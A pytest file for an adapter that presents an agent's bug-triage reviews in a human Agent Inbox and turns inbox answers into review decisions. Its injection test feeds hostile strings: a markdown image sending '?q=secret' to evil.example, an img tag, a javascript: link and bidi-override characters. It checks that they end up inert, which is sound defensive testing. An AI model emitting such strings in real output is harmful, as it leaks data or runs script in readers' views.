import json
from typing import Any, get_args, get_type_hints

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ConfigDict, create_model

from qa_agents.checkpoint.agent_inbox import (
    ActionRequest,
    HumanInterrupt,
    HumanInterruptConfig,
    HumanResponse,
    as_agent_inbox,
    from_agent_inbox,
    with_agent_inbox,
)
from qa_agents.checkpoint.schema import Review
from qa_agents.errors import InvalidInputError

SHOWN = {
    "target": "PAY-1",
    "summary": "It crashes",
    "gate": "ask",
    "rules": ["relation"],
    "actions": [
        {"kind": "set_field", "target": "PAY-1", "params": {"field": "component", "value": "Billing"}},
        {"kind": "add_comment", "target": "PAY-1", "params": {"text": "like PAY-0", "public": False}},
    ],
    "editable": ["component", "severity"],
}


def review(**shown: Any) -> Review:
    return Review(
        review_id="rv-1",
        run_id="run-1",
        interrupt_id="i-1",
        kind="triage",
        subject_id="PAY-1",
        state="pending",
        digest="0" * 64,
        shown=with_agent_inbox({**SHOWN, **shown}),
        opened_at=0.0,
    )


def said(answer: object, **shown: Any) -> dict[str, Any]:
    decision = from_agent_inbox(answer, review(**shown), "ada")
    assert (decision.review_id, decision.reviewer, decision.digest) == ("rv-1", "ada", "0" * 64)
    return decision.model_dump(exclude_defaults=True, exclude={"review_id", "reviewer", "digest"})


def edited(**args: Any) -> dict[str, Any]:
    return {"type": "edit", "args": {"action": "decide_review", "args": args}}


def test_the_payload_has_the_shape_that_inboxes_read() -> None:
    item = as_agent_inbox(SHOWN)
    assert item["action_request"] == {"action": "decide_review", "args": {"component": "Billing", "severity": ""}}
    assert set(item["config"]) == {"allow_accept", "allow_edit", "allow_respond", "allow_ignore"}
    assert all(item["config"].values())
    assert "component" in item["description"]
    json.dumps(item)


def test_an_inbox_finds_its_keys_in_the_interrupt_itself() -> None:
    """Agent Inbox takes an interrupt's value that is an object with `action_request` and `config`, or a list of such."""
    shown = with_agent_inbox(SHOWN)
    assert {key: shown[key] for key in SHOWN} == SHOWN
    assert {key: shown[key] for key in ("action_request", "config", "description")} == as_agent_inbox(SHOWN)
    assert with_agent_inbox(shown) == shown


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_the_shapes_are_those_that_langgraph_declares() -> None:
    from langgraph.prebuilt import interrupt

    def same(ours: Any, theirs: Any) -> bool:
        return set(ours.__annotations__) == set(theirs.__annotations__) and ours.__total__ == theirs.__total__

    assert same(HumanInterrupt, interrupt.HumanInterrupt)
    assert same(HumanInterruptConfig, interrupt.HumanInterruptConfig)
    assert same(ActionRequest, interrupt.ActionRequest)
    strict = ConfigDict(extra="forbid", strict=True)
    for shown in (SHOWN, {**SHOWN, "form": "signoff"}, {**SHOWN, "actions": [], "editable": []}):
        item = as_agent_inbox(shown)
        validated = create_model("Payload", __config__=strict, item=(interrupt.HumanInterrupt, ...))
        assert validated.model_validate({"item": item}).model_dump() == {"item": item}
    assert set(HumanResponse.model_fields) == set(interrupt.HumanResponse.__annotations__)
    types = get_args(get_type_hints(interrupt.HumanResponse)["type"])
    assert set(types) == set(get_args(HumanResponse.model_fields["type"].annotation))


def test_what_has_nothing_to_edit_or_is_no_approval_does_not_offer_it() -> None:
    assert not as_agent_inbox({**SHOWN, "editable": []})["config"]["allow_edit"]
    assert not any(as_agent_inbox({**SHOWN, "form": "signoff"})["config"].values())
    with pytest.raises(InvalidInputError, match="cannot be answered with accept"):
        from_agent_inbox([{"type": "accept", "args": None}], review(form="question"), "ada")


@pytest.mark.parametrize(
    ("answer", "decision"),
    [
        ([{"type": "accept", "args": None}], {"verdict": "approve"}),
        ({"type": "accept", "args": None}, {"verdict": "approve"}),
        (
            [{**edited(component="Billing", severity=""), "type": "accept"}],
            {"verdict": "approve"},
        ),  # as its button sends it
        ([edited(component="Billing", severity="")], {"verdict": "approve"}),
        (
            [edited(component="Login", severity="")],
            {"verdict": "edit", "edits": {"component": "Login"}, "reason_code": "other"},
        ),
        ([edited(severity=" High ")], {"verdict": "edit", "edits": {"severity": "High"}, "reason_code": "other"}),
        (
            [{"type": "response", "args": "Which browser?"}],
            {"verdict": "ask_reporter", "questions": ["Which browser?"]},
        ),
        ([{"type": "ignore", "args": None}], {"verdict": "reject", "reason_code": "other"}),
        ([{"type": "ignore"}], {"verdict": "reject", "reason_code": "other"}),
    ],
)
def test_an_inbox_answer_becomes_a_decision(answer: object, decision: dict[str, Any]) -> None:
    assert said(answer) == decision


@pytest.mark.parametrize(
    "answer",
    [
        "approve",
        None,
        True,
        [],
        {},
        [{"type": "accept"}, {"type": "accept"}],
        [{"type": "approve", "args": None}],
        [{"type": "accept", "args": None, "reviewer": "root"}],
        [{"type": "accept", "args": {"action": "decide_review", "args": {"component": "Other"}}}],
        [edited(status="Closed")],
        [edited(component="")],
        [edited(component=7)],
        [{"type": "edit", "args": "component"}],
        [{"type": "response", "args": " "}],
    ],
)
def test_anything_else_is_refused(answer: object) -> None:
    with pytest.raises(InvalidInputError):
        from_agent_inbox(answer, review(), "ada")


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/?q=secret)",
        "<img src=http://evil.example>",
        "[click](javascript:alert(1))",
        "www.evil.example",
        "# heading\n- list\n```code",
        "\u202eevil\u200b",
        "x" * 200_000,
        "![" * 100_000,
    ],
)
def test_report_text_is_inert_in_the_description(hostile: str) -> None:
    description = as_agent_inbox({**SHOWN, "summary": hostile, "target": hostile})["description"]
    for live in ("](", "<img", "http:", "www.", "\u202e", "\u200b", "\n#", "```"):
        assert live not in description
    assert len(description) < 3_000


texts = st.text(max_size=30)


@given(st.dictionaries(st.sampled_from(["component", "severity"]), texts))
def test_an_edit_holds_exactly_what_was_changed(args: dict[str, str]) -> None:
    offered = {"component": "Billing", "severity": ""}
    changed = {name: value for name, value in args.items() if value != offered[name]}
    if any(not value.strip() for value in changed.values()):
        with pytest.raises(InvalidInputError):
            said([edited(**args)])
        return
    assert said([edited(**args)]).get("edits", {}) == {name: value.strip() for name, value in changed.items()}
